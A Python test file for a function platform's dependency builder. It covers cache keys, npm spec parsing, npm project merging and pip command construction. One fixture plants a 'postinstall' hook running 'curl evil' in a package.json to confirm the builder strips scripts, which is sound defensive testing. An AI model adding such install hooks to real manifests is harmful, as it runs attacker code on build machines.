"""Dependencies: what decides the dependency layer, and the commands that install it."""

from __future__ import annotations

import json
import pathlib
import sys

from kfn.api import function
from kfn.builder import config, deps
from kfn.builder.config import NODEJS, PYTHON


def _code(tmp_path: pathlib.Path, files: dict[str, str]) -> pathlib.Path:
    code = tmp_path / "code"
    code.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        (code / name).write_text(content)
    return code


def test_code_alone_does_not_change_the_dependency_key(tmp_path: pathlib.Path) -> None:
    code = _code(tmp_path, {"app.py": "v1", "requirements.txt": "requests==2.32.3\n"})
    before = deps.key("base@sha256:1", PYTHON, code, ["six"])
    (code / "app.py").write_text("v2")
    assert deps.key("base@sha256:1", PYTHON, code, ["six"]) == before


def test_requirements_dependencies_and_the_base_each_change_the_key(tmp_path: pathlib.Path) -> None:
    code = _code(tmp_path, {"requirements.txt": "requests==2.32.3\n"})
    first = deps.key("base@sha256:1", PYTHON, code, ["six"])
    assert deps.key("base@sha256:2", PYTHON, code, ["six"]) != first
    assert deps.key("base@sha256:1", PYTHON, code, ["six", "idna"]) != first
    (code / "requirements.txt").write_text("requests==2.32.4\n")
    assert deps.key("base@sha256:1", PYTHON, code, ["six"]) != first


def test_nothing_is_installed_without_requirements_or_dependencies(tmp_path: pathlib.Path) -> None:
    code = _code(tmp_path, {"app.py": "", "requirements.txt": "# nothing yet\n\n"})
    assert not deps.needed(PYTHON, code, [])
    assert deps.needed(PYTHON, code, ["six"])
    node = _code(
        tmp_path / "n",
        {"package.json": json.dumps({"name": "x", "devDependencies": {"jest": "1"}})},
    )
    assert not deps.needed(NODEJS, node, [])


def test_npm_specs_split_into_name_and_range_scoped_or_not() -> None:
    assert deps.split_npm_spec("lodash@^4.17.0") == ("lodash", "^4.17.0")
    assert deps.split_npm_spec("@aws-sdk/client-s3@3.600.0") == ("@aws-sdk/client-s3", "3.600.0")
    assert deps.split_npm_spec("uuid") == ("uuid", "*")
    assert deps.split_npm_spec("@scope/only") == ("@scope/only", "*")


def test_the_npm_project_merges_package_json_with_the_spec_and_drops_scripts(
    tmp_path: pathlib.Path,
) -> None:
    package = {
        "name": "orders",
        "dependencies": {"uuid": "9.0.1"},
        "devDependencies": {"jest": "29"},
        "scripts": {"postinstall": "curl evil"},
    }
    code = _code(tmp_path, {"package.json": json.dumps(package), "package-lock.json": "{}"})
    project = tmp_path / "deps" / "nodejs"
    deps.write_npm_project(code, ["lodash@4.17.21"], project)
    written = json.loads((project / "package.json").read_text())
    assert written["dependencies"] == {"uuid": "9.0.1", "lodash": "4.17.21"}
    assert "scripts" not in written
    assert "devDependencies" not in written
    assert (project / "package-lock.json").read_text() == "{}"


def test_pip_installs_into_the_target_from_the_configured_index_trusting_a_plain_http_mirror(
    tmp_path: pathlib.Path,
) -> None:
    code = _code(tmp_path, {"requirements.txt": "six\n"})
    cmd = deps.pip_command(
        tmp_path / "t", code, ["idna==3.7"], "http://10.244.0.1:3141/root/pypi/+simple/"
    )
    assert cmd[cmd.index("--target") + 1] == str(tmp_path / "t")
    assert cmd[cmd.index("--index-url") + 1] == "http://10.244.0.1:3141/root/pypi/+simple/"
    assert cmd[cmd.index("--trusted-host") + 1] == "10.244.0.1"
    assert cmd[cmd.index("--requirement") + 1] == str(code / "requirements.txt")
    assert cmd[-1] == "idna==3.7"
    # A cold caching mirror takes longer than pip's default 15 s to answer a first page.
    assert int(cmd[cmd.index("--timeout") + 1]) >= 60
    https = deps.pip_command(tmp_path / "t", code, [], "https://pypi.example.com/simple/")
    assert "--trusted-host" not in https


def test_pip_picks_wheels_of_the_runtimes_python_when_it_is_not_the_builders(
    tmp_path: pathlib.Path,
) -> None:
    code = _code(tmp_path, {})
    builders = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    other = "python3.13" if builders != "python3.13" else "python3.12"
    same = deps.pip_command(tmp_path / "t", code, ["six"], "", builders)
    assert "--python-version" not in same
    assert "--only-binary=:all:" not in same
    cmd = deps.pip_command(tmp_path / "t", code, ["six"], "", other)
    assert cmd[cmd.index("--python-version") + 1] == other.removeprefix("python")
    assert "--only-binary=:all:" in cmd
    assert cmd[-1] == "six"


def test_the_builder_knows_every_runtime_of_the_api() -> None:
    assert (*config.PYTHON_RUNTIMES, *config.NODEJS_RUNTIMES) == function.RUNTIMES
    assert config.PYTHON_RUNTIMES == function.PYTHON_RUNTIMES


def test_dependencies_installed_for_one_python_are_not_reused_for_another(
    tmp_path: pathlib.Path,
) -> None:
    code = _code(tmp_path, {})
    keys = {deps.key("base@sha256:1", r, code, ["six"]) for r in config.PYTHON_RUNTIMES}
    assert len(keys) == len(config.PYTHON_RUNTIMES)
